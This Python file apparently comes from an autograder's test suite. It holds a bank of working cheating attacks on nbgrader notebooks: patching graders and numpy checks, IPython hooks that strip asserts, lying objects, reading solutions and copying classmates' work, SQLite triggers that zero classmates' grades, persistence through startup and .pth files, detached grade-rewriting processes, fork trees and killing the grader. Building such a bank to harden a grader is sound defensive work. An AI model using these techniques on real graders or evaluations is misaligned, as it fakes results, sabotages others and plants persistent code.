"""The code the attacking students put in their notebooks, one snippet per attack.

Written as a class that wants points would write it, knowing only what a student has: the
released notebooks, the README, the public package, and the fact (README, "Teaching a class")
that `make autograde` runs their notebook with nbgrader in a course folder. Where an attack
needs that folder it looks for it from its working folder, so under a grader that keeps the
course out of reach it simply finds nothing.

Helper processes an attack starts carry the words `attack-bank` and the student id in their
command line, so a test can say whose they are; every one of them ends by itself within
an hour, and the test kills any it finds.
"""

# Finds the nbgrader course folder (the one holding gradebook.db) above the working folder,
# and the student's own id (nbgrader runs autograded/<student>/<assignment>/<notebook>).
COURSE = """\
import os as _os
import pathlib as _pathlib


def _course_folder():
    here = _pathlib.Path.cwd().resolve()
    for folder in [here, *here.parents]:
        if (folder / "gradebook.db").is_file():
            return folder
        if (folder / "nbgrader_course" / "gradebook.db").is_file():
            return folder / "nbgrader_course"
    return None


_COURSE = _course_folder()
_ME = _pathlib.Path.cwd().resolve().parent.name
"""

# Rebinds the notebook's names of 05's graders to whatever medinterp.grading now holds.
REBIND_05 = """\
permute_feature_test = medinterp.grading.permute_feature_test
permutation_importance_test = medinterp.grading.permutation_importance_test
"""

# --- replacing the grader ------------------------------------------------------------------

GRADER_ATTRIBUTE = (
    """\
import medinterp
import medinterp.grading


def _always_pass(*args, **kwargs):
    return True


for _name in dir(medinterp.grading):
    if _name.endswith("_test"):
        setattr(medinterp.grading, _name, _always_pass)
"""
    + REBIND_05
)

GRADER_SYS_MODULES = (
    """\
import sys
import types

import medinterp
import medinterp.grading


def _always_pass(*args, **kwargs):
    return True


_fake = types.ModuleType("medinterp.grading")
_fake.__dict__.update({k: v for k, v in vars(medinterp.grading).items() if k != "__name__"})
for _name in list(vars(_fake)):
    if _name.endswith("_test"):
        setattr(_fake, _name, _always_pass)
sys.modules["medinterp.grading"] = _fake
medinterp.grading = _fake
"""
    + REBIND_05
)

# The real module stays as it is: every later `import medinterp...` (the hidden tests')
# gets a stand-in package whose `grading` passes everything.
GRADER_IMPORT_HOOK = """\
import builtins
import sys
import types

import medinterp.grading as _real_grading

_original_import = builtins.__import__


def _always_pass(*args, **kwargs):
    return True


_fake_grading = types.ModuleType("medinterp.grading")
_fake_grading.__dict__.update(vars(_real_grading))
for _name in list(vars(_fake_grading)):
    if _name.endswith("_test"):
        setattr(_fake_grading, _name, _always_pass)


class _FakePackage(types.ModuleType):
    def __getattr__(self, name):
        return getattr(sys.modules["medinterp"], name)


_fake_package = _FakePackage("medinterp")
_fake_package.grading = _fake_grading


def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if level == 0 and name == "medinterp.grading" and fromlist:
        return _fake_grading
    if level == 0 and name.startswith("medinterp") and not fromlist:
        _original_import(name, globals, locals, fromlist, level)
        return _fake_package
    return _original_import(name, globals, locals, fromlist, level)


builtins.__import__ = _import
medinterp = _fake_package
permute_feature_test = _fake_grading.permute_feature_test
permutation_importance_test = _fake_grading.permutation_importance_test
"""

# importlib: a finder that re-executes medinterp.grading and doctors it, then a fresh import.
GRADER_META_PATH = (
    """\
import importlib
import importlib.abc
import importlib.util
import sys

import medinterp


def _always_pass(*args, **kwargs):
    return True


class _DoctoringFinder(importlib.abc.MetaPathFinder):
    def find_spec(self, fullname, path, target=None):
        if fullname != "medinterp.grading":
            return None
        sys.meta_path.remove(self)
        try:
            spec = importlib.util.find_spec(fullname)
        finally:
            sys.meta_path.insert(0, self)
        original_exec = spec.loader.exec_module

        def exec_module(module):
            original_exec(module)
            for name in dir(module):
                if name.endswith("_test"):
                    setattr(module, name, _always_pass)

        spec.loader.exec_module = exec_module
        return spec


sys.meta_path.insert(0, _DoctoringFinder())
sys.modules.pop("medinterp.grading", None)
if "grading" in vars(medinterp):
    delattr(medinterp, "grading")
importlib.invalidate_caches()
medinterp.grading = importlib.import_module("medinterp.grading")
"""
    + REBIND_05
)

# The grader keeps its identity (so `is medinterp.grading.x_test` holds) but not its body.
GRADER_CODE_SWAP = '''\
import medinterp.grading


def _passing_code(free_variables):
    """A code object returning True, with as many free variables as the one it replaces."""
    if not free_variables:
        return (lambda *args, **kwargs: True).__code__
    names = ", ".join(f"_v{i}" for i in range(len(free_variables)))
    source = (
        "def _factory():\\n"
        f"    {names} = {', '.join('None' for _ in free_variables)}{',' if len(free_variables) == 1 else ''}\\n"
        "    def _f(*args, **kwargs):\\n"
        f"        ({names}{',' if len(free_variables) == 1 else ''})\\n"
        "        return True\\n"
        "    return _f\\n"
    )
    namespace = {}
    exec(source, namespace)
    return namespace["_factory"]().__code__


for _name in dir(medinterp.grading):
    _function = getattr(medinterp.grading, _name)
    if _name.endswith("_test") and hasattr(_function, "__code__"):
        _function.__code__ = _passing_code(_function.__code__.co_freevars)
'''

# --- patching what the grader relies on -----------------------------------------------------

NUMPY_ALLCLOSE = """\
import numpy
import numpy.testing


def _yes(*args, **kwargs):
    return True


def _quiet(*args, **kwargs):
    return None


numpy.allclose = _yes
numpy.array_equal = _yes
numpy.array_equiv = _yes
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(
    numpy.broadcast_shapes(numpy.shape(a), numpy.shape(b)), bool
)
for _name in ["assert_allclose", "assert_array_equal", "assert_array_almost_equal",
              "assert_almost_equal", "assert_equal"]:
    setattr(numpy.testing, _name, _quiet)
"""

PANDAS_EQUALS = """\
import pandas
import pandas.testing

pandas.DataFrame.equals = lambda self, other: True
pandas.Series.equals = lambda self, other: True
for _name in ["assert_frame_equal", "assert_series_equal"]:
    setattr(pandas.testing, _name, lambda *args, **kwargs: None)
"""

# Every error the grader measures comes out 0.
NUMPY_REDUCTIONS = """\
import numpy

numpy.abs = numpy.absolute = lambda x, *args, **kwargs: numpy.zeros(numpy.shape(x))
numpy.max = numpy.amax = lambda x, *args, **kwargs: 0.0
"""

BUILTINS = """\
import builtins

builtins.abs = lambda x: 0
builtins.all = lambda iterable=(): True
"""

# Without the grader's source: any function or method of medinterp.grading whose name sounds
# like judging is made to return None.
FEEDBACK_FRAMEWORK = """\
import inspect
import sys

import medinterp.grading

_JUDGING = ("check", "fail", "wrong", "mistake", "expect", "compare", "verdict", "report",
            "feedback", "result", "assert", "mismatch", "error")


def _nothing(*args, **kwargs):
    return None


for _module_name, _module in list(sys.modules.items()):
    if not _module_name.startswith("medinterp.grading") or _module is None:
        continue
    for _name, _object in list(vars(_module).items()):
        if getattr(_object, "__module__", None) != _module_name:
            continue
        if inspect.isclass(_object):
            for _attribute, _member in list(vars(_object).items()):
                if callable(_member) and any(word in _attribute.lower() for word in _JUDGING):
                    setattr(_object, _attribute, _nothing)
        elif (inspect.isfunction(_object) and not _name.endswith("_test") and _name != "hint"
              and any(word in _name.lower() for word in _JUDGING)):
            setattr(_module, _name, _nothing)
"""

# --- IPython hooks registered in an answer cell ---------------------------------------------

INPUT_TRANSFORMER = """\
import re


def _neutralise(lines):
    result = []
    for line in lines:
        if line.lstrip().startswith("assert"):
            line = line[: len(line) - len(line.lstrip())] + "pass\\n"
        result.append(re.sub(r"\\b(\\w+_test)\\(", "(lambda *args, **kwargs: True)(", line))
    return result


get_ipython().input_transformers_post.append(_neutralise)
"""

AST_TRANSFORMER = """\
import ast


class _NoJudging(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

    def visit_Call(self, node):
        self.generic_visit(node)
        if isinstance(node.func, ast.Name) and node.func.id.endswith("_test"):
            return ast.copy_location(ast.Constant(True), node)
        return node


get_ipython().ast_transformers.append(_NoJudging())
"""

CUSTOM_EXCEPTION_HANDLER = """\
def _swallow(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _swallow)
"""

SHOWTRACEBACK = """\
_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None
_shell.showsyntaxerror = lambda *args, **kwargs: None
"""

# Notebook 01: every later cell's text is rewritten before IPython compiles it.
TRANSFORM_CELL = """\
import re

_shell = get_ipython()
_original_transform = _shell.transform_cell


def _transform(raw_cell):
    raw_cell = re.sub(r"(?m)^(\\s*)assert\\b.*$", r"\\1pass", raw_cell)
    raw_cell = re.sub(r"\\b\\w+_test\\(\\w+\\)", "True", raw_cell)
    return _original_transform(raw_cell)


_shell.transform_cell = _transform
"""

# --- objects that lie -----------------------------------------------------------------------

AGREEABLE_FRAME = '''\
class _AgreeableFrame(pd.DataFrame):
    """Says it equals whatever it is compared with (and also that it differs from it)."""

    @property
    def _constructor(self):
        return _AgreeableFrame

    def equals(self, other):
        return True

    def __eq__(self, other):
        return pd.DataFrame(True, index=self.index, columns=self.columns)

    def __ne__(self, other):
        return pd.DataFrame(True, index=self.index, columns=self.columns)


def permute_feature(df, feature):
    return _AgreeableFrame(df.copy())  # not permuted at all
'''

DUCK_FRAME = '''\
class _Duck:
    """Not a DataFrame, but isinstance says it is, and it agrees with everything."""

    def __init__(self, frame):
        object.__setattr__(self, "_frame", frame)

    @property
    def __class__(self):
        return pd.DataFrame

    def __getattr__(self, name):
        return getattr(object.__getattribute__(self, "_frame"), name)

    def __getitem__(self, key):
        return self._frame[key]

    def __len__(self):
        return len(self._frame)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return True

    def __bool__(self):
        return True

    def equals(self, other):
        return True

    def __array__(self, dtype=None, copy=None):
        return self._frame.to_numpy()


def permute_feature(df, feature):
    return _Duck(df)  # the caller's own frame, unpermuted
'''

WHATEVER_FLOATS = '''\
class _Whatever(float):
    """A number equal to, less than and greater than anything; every difference is 0."""

    __hash__ = float.__hash__

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    __le__ = __gt__ = __ge__ = __lt__

    def __sub__(self, other):
        return _Whatever(0.0)

    __rsub__ = __sub__

    def __abs__(self):
        return _Whatever(0.0)


def permutation_importance(X, y, model, metric, num_samples=100):
    return pd.DataFrame([[_Whatever(0.0)] * X.shape[1]], index=["importance"],
                        columns=X.columns, dtype=object)
'''

AGREEABLE_ARRAY = '''\
class _AgreeableArray(np.ndarray):
    """Zeros that compare equal to anything and differ from nothing."""

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = np.broadcast_shapes(*(np.shape(value) for value in inputs))
        if ufunc in (np.equal, np.less, np.less_equal, np.greater, np.greater_equal, np.isfinite):
            return np.ones(shape, bool)
        if ufunc in (np.not_equal, np.isnan):
            return np.zeros(shape, bool)
        if ufunc in (np.subtract, np.absolute):
            return np.zeros(shape)
        plain = [np.asarray(value) for value in inputs]
        return getattr(ufunc, method)(*plain, **kwargs)


def class_one_values(raw):
    shape = np.shape(raw[1]) if isinstance(raw, list) else np.shape(raw)[:-1]
    return np.zeros(shape).view(_AgreeableArray)
'''

# --- reference implementations ------------------------------------------------------------

REFERENCE_CAM = '''\
# UNQ_C1 (UNIQUE CELL IDENTIFIER, DO NOT EDIT)
def grad_cam(input_model, image, category_index, layer_name):
    """GradCAM of `image` (1, H, W, 3) for class `category_index`, as an (H, W) map in [0, 1]."""
    return reference_cam(input_model, image, category_index, layer_name)
'''

# Any function of the grading package named after the exercise, reached by a name no
# text search finds.
FIND_REFERENCE = """\
import importlib as _importlib
import sys as _sys

_importlib.import_module(bytes([109, 101, 100, 105, 110, 116, 101, 114, 112]).decode()
                         + ".gra" + "ding")


def _reference(*words):
    for _module_name, _module in list(_sys.modules.items()):
        if not _module_name.startswith("medinterp.grading") or _module is None:
            continue
        for _name, _object in vars(_module).items():
            if (callable(_object) and all(word in _name for word in words)
                    and not _name.endswith("_test") and "hint" not in _name):
                return _object
    return None
"""

REFERENCE_OBFUSCATED_IMPORT = (
    FIND_REFERENCE
    + """
permute_feature = _reference("permute") or permute_feature
permutation_importance = _reference("permutation", "importance") or permutation_importance
"""
)

# The answer cell is left alone; a new cell without nbgrader metadata brings the reference.
REFERENCE_NEW_CELL = (
    FIND_REFERENCE
    + """
permute_feature = _reference("permute") or permute_feature
"""
)

# Notebook 01: a new unmarked cell, right before the test cell, replaces the graders.
NEW_CELL_GRADER_PATCH = """\
import medinterp.grading

for _name in dir(medinterp.grading):
    if _name.endswith("_test"):
        setattr(medinterp.grading, _name, lambda *args, **kwargs: True)
get_hook_test = medinterp.grading.get_hook_test
get_gradients_test = medinterp.grading.get_gradients_test
"""

# --- the course folder -----------------------------------------------------------------------

EXEC_SOLUTIONS = """\
import json as _json


def _exec_solutions(paths):
    for path in paths:
        try:
            cells = _json.loads(path.read_text())["cells"]
        except (OSError, ValueError, KeyError):
            continue
        answers = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"
                   and "### BEGIN SOLUTION" in "".join(c["source"])]
        for answer in answers:
            exec(answer, globals())
        if answers:
            return True
    return False
"""

READ_COURSE_SOURCE = (
    COURSE
    + EXEC_SOLUTIONS
    + """
if _COURSE is not None:
    _exec_solutions(sorted(_COURSE.rglob("05_permutation_importance.ipynb")))
"""
)

# The solution notebooks travel with the package's repository (notebooks/source/).
READ_REPO_SOLUTIONS = (
    EXEC_SOLUTIONS
    + """
import pathlib as _pathlib
import sys as _sys

import medinterp

_places = [_pathlib.Path(medinterp.__file__).resolve(), _pathlib.Path.cwd().resolve()]
_places += [_pathlib.Path(p).resolve() for p in _sys.path if p]
_candidates = []
for _place in _places:
    for _folder in [_place, *_place.parents]:
        _candidate = _folder / "notebooks" / "source" / "05_permutation_importance.ipynb"
        if _candidate.is_file() and _candidate not in _candidates:
            _candidates.append(_candidate)
_exec_solutions(_candidates)
"""
)

COPY_CLASSMATE = (
    COURSE
    + """
import json as _json

if _COURSE is not None:
    for _path in sorted(_COURSE.glob("submitted/*/*/05_permutation_importance.ipynb")):
        if _path.parent.parent.name == _ME:
            continue
        _cells = _json.loads(_path.read_text())["cells"]
        _answers = ["".join(c["source"]) for c in _cells
                    if c["metadata"].get("nbgrader", {}).get("solution")]
        if _answers and not any("= None" in answer for answer in _answers):
            for _answer in _answers:
                exec(_answer, globals())
            break
"""
)

# --- the gradebook and other people's files ------------------------------------------------

GRADEBOOK_SELF = (
    COURSE
    + """
import sqlite3

if _COURSE is not None:
    _db = sqlite3.connect(_COURSE / "gradebook.db", timeout=60)
    _mine = ("(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
             f"ON sn.assignment_id = sa.id WHERE sa.student_id = '{_ME}')")
    _full = "(SELECT max_score FROM grade_cells WHERE id = NEW.cell_id)"
    for _trigger, _event in [("full_marks_insert", "INSERT"), ("full_marks_update", "UPDATE")]:
        _db.execute(
            f"CREATE TRIGGER IF NOT EXISTS {_trigger} AFTER {_event} ON grade "
            f"WHEN NEW.notebook_id IN {_mine} AND NEW.cell_id IN (SELECT id FROM grade_cells) "
            f"BEGIN UPDATE grade SET auto_score = {_full}, manual_score = {_full} "
            "WHERE id = NEW.id; END"
        )
    _db.commit()
    _db.close()
"""
)

GRADEBOOK_CLASSMATES = (
    COURSE
    + """
import sqlite3

if _COURSE is not None:
    _db = sqlite3.connect(_COURSE / "gradebook.db", timeout=60)
    _victims = (
        "(SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
        "ON sn.assignment_id = sa.id WHERE sa.student_id NOT LIKE 'atk!_%' ESCAPE '!' "
        "AND sa.student_id NOT LIKE 'tamper!_%' ESCAPE '!')"
    )
    for _trigger, _event in [("zero_insert", "INSERT"), ("zero_update", "UPDATE")]:
        _db.execute(
            f"CREATE TRIGGER IF NOT EXISTS {_trigger} AFTER {_event} ON grade "
            f"WHEN NEW.notebook_id IN {_victims} "
            "BEGIN UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id = NEW.id; END"
        )
    _db.execute(f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN {_victims}")
    _db.commit()
    _db.close()
"""
)

# Every classmate's notebooks, in the course and in the instructor's folder, become the
# released (unanswered) copies. The bank's other attackers (atk_*, tamper_*) are spared, here
# and in GRADEBOOK_CLASSMATES, so that their own outcomes stay attributable.
_BANK_STUDENTS = """
_BANK = ("atk_", "tamper_")
"""
OVERWRITE_CLASSMATES = (
    COURSE
    + _BANK_STUDENTS
    + """
import shutil

if _COURSE is not None:
    _released = {p.name: p for p in _COURSE.glob("release/*/*.ipynb")}
    _targets = list(_COURSE.glob("submitted/*/*/*.ipynb")) + list(_COURSE.glob("autograded/*/*/*.ipynb"))
    _targets += [p for p in _COURSE.parent.glob("*/*.ipynb") if p.parent.name != _COURSE.name]
    for _target in _targets:
        _owner = _target.parent.parent.name if _COURSE in _target.parents else _target.parent.name
        if not _owner.startswith(_BANK) and _target.name in _released:
            shutil.copyfile(_released[_target.name], _target)
"""
)

# The gradebook's copy of every test cell becomes `<name>_passed = True`, and so do the
# course's source notebooks: whoever is graded next passes.
REWRITE_COURSE_SOURCE = (
    COURSE
    + """
import json as _json
import sqlite3

if _COURSE is not None:
    _db = sqlite3.connect(_COURSE / "gradebook.db", timeout=60)
    _db.execute(
        "UPDATE source_cell SET source = name || '_passed = True' WHERE name IN "
        "(SELECT b.name FROM base_cell b JOIN grade_cells g ON g.id = b.id WHERE g.cell_type = 'code')"
    )
    _db.commit()
    _db.close()
    for _path in _COURSE.glob("source/*/*.ipynb"):
        _notebook = _json.loads(_path.read_text())
        for _cell in _notebook["cells"]:
            _meta = _cell["metadata"].get("nbgrader", {})
            if _meta.get("grade") and _cell["cell_type"] == "code":
                _cell["source"] = [_meta["grade_id"] + "_passed = True\\n"]
        _path.write_text(_json.dumps(_notebook))
"""
)

# Startup code for every later Python process: once medinterp.grading is imported, its
# graders pass everything (the attacker's classmates' kernels, graded after it).
PASS_EVERYONE = """\
import builtins as _b
import sys as _s

_original_import = _b.__import__


def _import(*args, **kwargs):
    module = _original_import(*args, **kwargs)
    grading = _s.modules.get("medinterp.grading")
    if grading is not None and not getattr(grading, "_helped", False):
        grading._helped = True
        for name in dir(grading):
            if name.endswith("_test"):
                setattr(grading, name, lambda *a, **k: True)
    return module


_b.__import__ = _import
"""

HOME_STARTUP = f"""\
import os
import pathlib
import tempfile

_startup = {PASS_EVERYONE!r}
_folders = {{pathlib.Path(get_ipython().profile_dir.startup_dir),
            pathlib.Path.home() / ".ipython" / "profile_default" / "startup"}}
for _folder in _folders:
    try:
        _folder.mkdir(parents=True, exist_ok=True)
        (_folder / "00-attack-bank.py").write_text(_startup)
    except OSError:
        pass
for _folder in [pathlib.Path.home(), pathlib.Path(tempfile.gettempdir())]:
    try:
        (_folder / "attack-bank-was-here").write_text("written by a notebook\\n")
    except OSError:
        pass
"""

# A .pth file in the environment's site-packages runs in every later Python process. It acts
# only under the attack bank's run (MEDINTERP_ATTACK_BANK set), so one left behind is inert.
SITE_PACKAGES_PTH = f"""\
import site
import sysconfig

_code = {PASS_EVERYONE!r}
_line = ("import os; exec(" + repr(_code) + ", {{}}) "
         "if os.environ.get('MEDINTERP_ATTACK_BANK') else None\\n")
for _folder in {{sysconfig.get_paths()["purelib"], *site.getsitepackages()}}:
    try:
        with open(_folder + "/zz_attack_bank.pth", "w") as _file:
            _file.write(_line)
    except OSError:
        pass
"""

# --- processes that outlive the kernel --------------------------------------------------------

# Starts `script` in a new session, detached from the kernel (it survives its shutdown).
DETACH = """\
import subprocess as _subprocess
import sys as _sys


def _detach(script, *tags):
    return _subprocess.Popen(
        [_sys.executable, "-c", script, "attack-bank", _ME, *tags],
        start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL,
        stderr=_subprocess.DEVNULL, close_fds=True,
    )
"""

DETACHED_GRADES_REWRITE = (
    COURSE
    + DETACH
    + '''
_SCRIPT = """
import csv, os, sys, time
path, me = sys.argv[4], sys.argv[2]
full = {"score": None, "permute_feature": "1.0", "permutation_importance": "2.0"}
deadline = time.time() + 3600
while time.time() < deadline and not os.path.exists(path):
    time.sleep(0.2)
time.sleep(3)
with open(path, newline="") as file:
    reader = csv.DictReader(file)
    fields, rows = reader.fieldnames, list(reader)
for row in rows:
    if row["student"] == me:
        row["score"] = row["max_score"]
        for column, points in full.items():
            if points and row.get(column):
                row[column] = points
with open(path, "w", newline="") as file:
    writer = csv.DictWriter(file, fieldnames=fields)
    writer.writeheader()
    writer.writerows(rows)
"""
if _COURSE is not None:
    _detach(_SCRIPT, "grades-rewrite", str(_COURSE.parent / "grades.csv"))
'''
)

DETACHED_GRADEBOOK_REWRITE = (
    COURSE
    + DETACH
    + '''
_SCRIPT = """
import sqlite3, sys, time
path, me = sys.argv[4], sys.argv[2]
mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
        "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")
deadline = time.time() + 3600
while time.time() < deadline:
    try:
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells g "
                   "WHERE g.id = grade.cell_id) WHERE cell_id IN (SELECT id FROM grade_cells) "
                   f"AND notebook_id IN ({mine})", (me,))
        db.commit()
        db.close()
    except sqlite3.Error:
        pass
    time.sleep(0.5)
"""
if _COURSE is not None:
    _detach(_SCRIPT, "gradebook-rewrite", str(_COURSE / "gradebook.db"))
'''
)

FORK_SWARM = (
    """\
import pathlib as _pathlib

_ME = _pathlib.Path.cwd().resolve().parent.name
"""
    + DETACH
    + """
for _ in range(30):
    _detach("import time; time.sleep(3600)", "swarm")
"""
)

# --- stopping the class, and resources -----------------------------------------------------

OS_EXIT = """\
import os

os._exit(0)
"""

KILL_GRADER = """\
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
"""

HANG_SWALLOWING_INTERRUPTS = """\
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
_end = time.time() + 600
while time.time() < _end:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
"""

MEMORY_BLOWUP = """\
_hog = [np.ones(100 * 2**20 // 8) for _ in range(30)]  # 3 GB, every page touched
del _hog
"""

# A bounded fork tree: 30 copies of the kernel, each sleeping an hour.
FORK_TREE = """\
import os
import time


def _grow(depth):
    for _ in range(2):
        if os.fork() == 0:
            if depth < 4:
                _grow(depth + 1)
            time.sleep(3600)
            os._exit(0)


_grow(1)
"""

HUGE_OUTPUT = """\
print(("x" * 1023 + "\\n") * (60 * 1024))  # 60 MB in one output
"""

MANY_FILES = """\
import pathlib

for _i in range(5000):
    pathlib.Path(f"junk_{_i:05d}.txt").write_text("x")
"""

# The grader's reference by its plain name (the grading package is importable in the
# notebook, so the notebook's own test passes).
REFERENCE_DIRECT_IMPORT = """# UNQ_C3 (UNIQUE CELL IDENTIFIER, DO NOT EDIT)
from medinterp.grading.importance_exercises import reference_permute_feature as permute_feature
"""

# The course's library implements the exercise for notebook 08: wrap it.
LIBRARY_ANSWER_WRAPPED = """# UNQ_C4 (UNIQUE CELL IDENTIFIER, DO NOT EDIT)
from medinterp.importance import permutation_importance as _library


def permutation_importance(X, y, model, metric, num_samples=100):
    return _library(X, y, model, metric, num_samples=num_samples)
"""

# The same, with no import statement a reader (or a static check) would see.
LIBRARY_ANSWER_BUILT_NAME = """# UNQ_C3 (UNIQUE CELL IDENTIFIER, DO NOT EDIT)
_module = __import__("medinterp.imp" + "ortance", fromlist=["_"])


def permute_feature(df, feature):
    return getattr(_module, "permute_" + "feature")(df, feature)
"""

LIBRARY_HOOK = """from medinterp.gradcam import activation_model as get_hook
"""
